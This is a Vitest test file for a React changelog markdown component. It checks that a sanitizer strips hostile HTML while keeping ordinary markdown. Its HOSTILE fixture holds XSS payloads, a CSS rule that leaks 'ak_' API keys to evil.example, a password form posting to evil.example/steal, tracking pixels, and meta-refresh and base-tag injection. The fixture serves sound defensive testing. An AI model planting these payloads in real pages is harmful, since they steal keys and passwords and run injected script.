// The SDK & API changelog: markdown with raw HTML, all of it (markdown-generated images and
// links too) through the one server-HTML policy; in-page anchors scroll and never navigate.
import { fireEvent } from '@testing-library/react';
import { afterEach, describe, expect, it, vi } from 'vitest';
import ChangelogMarkdown from '../../src/pages/integration/ChangelogMarkdown';
import { renderInHarness } from './harness';

const HOSTILE = [
  '### Added',
  '- Lazy loading (<b>-18%</b>).',
  '',
  '<img src="x" alt="" onerror="alert(1)"><script>alert(2)</script>',
  '',
  '<style>input[value^="ak_"]{background:url(https://evil.example/leak)}</style>',
  '',
  '<div style="position:fixed;inset:0;z-index:99999;background:#c00">Overlay</div>',
  '',
  '<form action="https://evil.example/steal" method="post"><input type="password" name="p"><button>Send</button></form>',
  '',
  'Outside: ![pixel](https://evil.example/x.png) and <img src="https://evil.example/y.png" alt="raw pixel">',
  '',
  'Own: ![cover](/news-images/7001)',
  '',
  '[click](javascript:alert(3)) [data](data:text/html,x) [docs](https://docs.example/a) [see Fixed](#fixed)',
  '',
  '<svg onload="alert(4)"><text>svg text</text></svg><iframe src="https://evil.example/"></iframe>',
  '<meta http-equiv="refresh" content="0;url=https://evil.example/"><base href="https://evil.example/"><link rel="stylesheet" href="https://evil.example/x.css">',
  '',
  '### Fixed',
  '- Totals.',
].join('\n');

const renderEntry = (source = HOSTILE) => renderInHarness(<ChangelogMarkdown source={source} />).container;

// jsdom has no scrollIntoView; a test that gives it one takes it away again (the page is shared
// with the next files).
const ownScrollIntoView = Object.getOwnPropertyDescriptor(Element.prototype, 'scrollIntoView');
afterEach(() => {
  window.location.hash = '';
  if (ownScrollIntoView) Object.defineProperty(Element.prototype, 'scrollIntoView', ownScrollIntoView);
  else delete (Element.prototype as Partial<Element>).scrollIntoView;
});

describe('the changelog markdown', () => {
  it('keeps ordinary markdown: headings, lists, bold and web links', () => {
    const view = renderEntry();
    expect(Array.from(view.querySelectorAll('h3')).map((heading) => heading.textContent)).toEqual([
      'Added',
      'Fixed',
    ]);
    expect(view.querySelector('li b')?.textContent).toBe('-18%');
    const docs = Array.from(view.querySelectorAll('a')).find((link) => link.textContent === 'docs');
    expect([docs?.getAttribute('href'), docs?.getAttribute('target'), docs?.getAttribute('rel')]).toEqual([
      'https://docs.example/a',
      '_blank',
      'noopener noreferrer',
    ]);
  });

  it('leaves no script, handler, style, form, frame, svg, meta, base or link, and no script text', () => {
    const view = renderEntry();
    expect(
      Array.from(
        view
          .querySelector('.wmde-markdown')!
          .querySelectorAll(
            'script, style, form, input, button, iframe, svg, meta, base, link, [style], [onerror], [onload]',
          ),
      ).map((element) => element.outerHTML),
    ).toEqual([]);
    expect(view.textContent).not.toContain('alert(2)');
    expect(view.textContent).not.toContain('svg text');
    expect(view.textContent).not.toContain('Send');
  });

  it('renders the overlay as plain text with no style', () => {
    const view = renderEntry();
    const overlay = Array.from(view.querySelectorAll('div')).find((div) => div.textContent === 'Overlay');
    expect(overlay?.outerHTML).toBe('<div>Overlay</div>');
  });

  it('drops outside images, markdown and raw alike, and keeps the image host', () => {
    const view = renderEntry();
    // src="x" is relative: an image of the image host (its onerror is gone).
    expect(Array.from(view.querySelectorAll('img')).map((image) => image.getAttribute('src'))).toEqual([
      `${window.location.origin}/x`,
      `${window.location.origin}/news-images/7001`,
    ]);
  });

  it('drops javascript: and data: link targets and keeps their text', () => {
    const view = renderEntry();
    const byText = (text: string) =>
      Array.from(view.querySelectorAll('a')).find((a) => a.textContent === text);
    expect(byText('click')?.hasAttribute('href')).toBe(false);
    expect(byText('data')?.hasAttribute('href')).toBe(false);
  });

  it('has no heading anchor links (the preview adds "#added" icons)', () => {
    const view = renderEntry();
    expect(view.querySelectorAll('h3 a')).toHaveLength(0);
    expect(view.querySelector('h3')?.id).toBe('user-content-added');
  });

  it('scrolls to an in-page anchor without changing the address', () => {
    const scrolled: string[] = [];
    const scrollIntoView = vi.fn(function (this: Element) {
      scrolled.push(this.id);
    });
    Element.prototype.scrollIntoView = scrollIntoView;
    window.location.hash = '#/integration';
    const view = renderEntry();
    const link = Array.from(view.querySelectorAll('a')).find((a) => a.textContent === 'see Fixed')!;
    expect(link.getAttribute('href')).toBe('#fixed');
    expect(link.hasAttribute('target')).toBe(false);
    const notPrevented = fireEvent.click(link);
    expect(notPrevented).toBe(false);
    expect(window.location.hash).toBe('#/integration');
    expect(scrolled).toEqual(['user-content-fixed']);
  });
});
